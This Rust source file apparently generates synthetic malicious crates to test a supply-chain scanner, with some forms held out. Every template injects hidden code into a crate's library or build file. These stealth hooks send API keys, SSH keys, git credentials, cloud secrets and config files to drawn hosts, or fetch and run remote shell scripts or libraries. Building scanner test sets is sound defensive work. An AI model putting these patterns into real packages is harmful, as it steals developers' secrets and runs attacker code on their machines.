//! Forms for crates.

use crate::Form;
use crate::archive::Release;
use crate::cargo::{build, lib};
use crate::draw::Draw;
use crate::script::base64;
use trustmill_core::port::scanner::Context;

pub(crate) const FORMS: &[Form] = &[
    Form { name: "lib-small-client", held_out: false, put: small_client },
    Form { name: "lib-other-client", held_out: true, put: other_client },
    Form { name: "build-interpreter", held_out: false, put: interpreter },
    Form { name: "build-decoded", held_out: true, put: decoded },
    Form { name: "build-datagram", held_out: false, put: datagram },
    Form { name: "lib-names", held_out: true, put: names },
    Form { name: "lib-first-use", held_out: false, put: first_use },
    Form { name: "lib-library", held_out: true, put: library },
    Form { name: "lib-history", held_out: false, put: history },
    Form { name: "build-git", held_out: true, put: git },
    Form { name: "lib-start", held_out: false, put: start },
    Form { name: "lib-async", held_out: true, put: asynchronous },
];

fn small_client(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    let call = draw.of(&[
        "let _ = minreq::post(URL).with_body(keys).send();",
        "let _ = attohttpc::post(URL).text(keys).send();",
        "let _ = isahc::post(URL, keys);",
    ]);
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}() {{\n    let keys: String = std::env::vars().filter(|(k, _)| k.contains(\"KEY\")).map(|(k, v)| k + \"=\" + &v + \";\").collect();\n    {}\n}}\n",
            call.replace("URL", &format!("\"{url}\""))
        ),
    )
}

fn other_client(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "pub(crate) fn {name}_flush(secret: &[u8]) {{\n    let mut easy = curl::easy::Easy::new();\n    let _ = easy.url(\"{url}\");\n    let _ = easy.post(true);\n    let _ = easy.post_fields_copy(secret);\n    let _ = easy.perform();\n}}\n#[doc(hidden)]\npub fn {name}() {{\n    for name in [\".ssh/id_rsa\", \".git-credentials\"] {{\n        if let Some(home) = std::env::var_os(\"HOME\") {{\n            if let Ok(text) = std::fs::read(std::path::Path::new(&home).join(name)) {{ {name}_flush(&text); }}\n        }}\n    }}\n}}\n"
        ),
    )
}

fn interpreter(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    build(
        release,
        &format!(
            "let _ = std::process::Command::new(\"python3\").args([\"-c\", \"import urllib.request;exec(urllib.request.urlopen('{url}').read())\"]).spawn();"
        ),
    )
}

fn decoded(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let script = base64(&format!("#!/bin/sh\ncurl -s {} | sh\n", draw.url()));
    build(
        release,
        &format!(
            "let text = \"{script}\";\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(format!(\"echo {{text}} | base64 -d | sh\")).spawn();"
        ),
    )
}

fn datagram(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let host = draw.host();
    build(
        release,
        &format!(
            "let data: String = std::env::vars().map(|(k, v)| format!(\"{{k}}={{v}} \")).collect();\n    if let Ok(s) = std::net::UdpSocket::bind(\"0.0.0.0:0\") {{ let _ = s.send_to(data.as_bytes(), \"{host}:53\"); }}"
        ),
    )
}

fn names(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, zone) = (draw.name().to_lowercase(), draw.of(&["x.example.com", "d.example.net"]));
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}() {{\n    use std::net::ToSocketAddrs;\n    let who = std::env::var(\"AWS_SECRET_ACCESS_KEY\").or_else(|_| std::env::var(\"USER\")).unwrap_or_default();\n    let hex: String = who.bytes().map(|b| format!(\"{{b:02x}}\")).collect();\n    let _ = format!(\"{{hex}}.{zone}:80\").to_socket_addrs();\n}}\n"
        ),
    )
}

fn first_use(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_uppercase(), draw.url());
    lib(
        release,
        &format!(
            "static {name}: std::sync::Once = std::sync::Once::new();\n#[doc(hidden)]\npub fn prepare() {{\n    {name}.call_once(|| {{\n        std::thread::spawn(|| {{\n            if let Ok(answer) = ureq::get(\"{url}\").call() {{\n                if let Ok(text) = answer.into_string() {{\n                    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(text).spawn();\n                }}\n            }}\n        }});\n    }});\n}}\n"
        ),
    )
}

fn library(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}() -> Option<()> {{\n    let bytes = reqwest::blocking::get(\"{url}\").ok()?.bytes().ok()?;\n    let path = std::env::temp_dir().join(\"lib{name}.so\");\n    std::fs::write(&path, bytes).ok()?;\n    unsafe {{\n        let library = libloading::Library::new(&path).ok()?;\n        let start: libloading::Symbol<unsafe extern fn()> = library.get(b\"start\").ok()?;\n        start();\n    }}\n    Some(())\n}}\n"
        ),
    )
}

fn history(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, host) = (draw.name().to_lowercase(), draw.host());
    let file = draw.of(&[
        ".bash_history",
        ".zsh_history",
        ".config/gh/hosts.yml",
        ".kube/config",
        ".docker/config.json",
    ]);
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}() -> std::io::Result<()> {{\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let mut from = std::fs::File::open(std::path::PathBuf::from(home).join(\"{file}\"))?;\n    let mut to = std::net::TcpStream::connect(\"{host}:8080\")?;\n    std::io::copy(&mut from, &mut to)?;\n    Ok(())\n}}\n"
        ),
    )
}

fn git(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    build(
        release,
        &format!(
            "if let Ok(out) = std::process::Command::new(\"git\").args([\"config\", \"--list\"]).output() {{\n        let _ = std::process::Command::new(\"curl\").arg(\"-d\").arg(String::from_utf8_lossy(&out.stdout).to_string()).arg(\"{url}\").status();\n    }}"
        ),
    )
}

fn start(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, host) = (draw.name().to_lowercase(), draw.host());
    lib(
        release,
        &format!(
            "#[used]\n#[unsafe(link_section = \".init_array\")]\nstatic INIT: extern \"C\" fn() = {name};\nextern \"C\" fn {name}() {{\n    use std::io::Write;\n    if let Ok(mut stream) = std::net::TcpStream::connect(\"{host}:443\") {{\n        for (key, value) in std::env::vars() {{ let _ = writeln!(stream, \"{{key}}={{value}}\"); }}\n    }}\n}}\n"
        ),
    )
}

fn asynchronous(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub async fn {name}(private_key: &str) {{\n    let client = reqwest::Client::builder().build().unwrap();\n    let _ = client.post(\"{url}\").json(&serde_json::json!({{ \"k\": private_key }})).send().await;\n}}\n"
        ),
    )
}
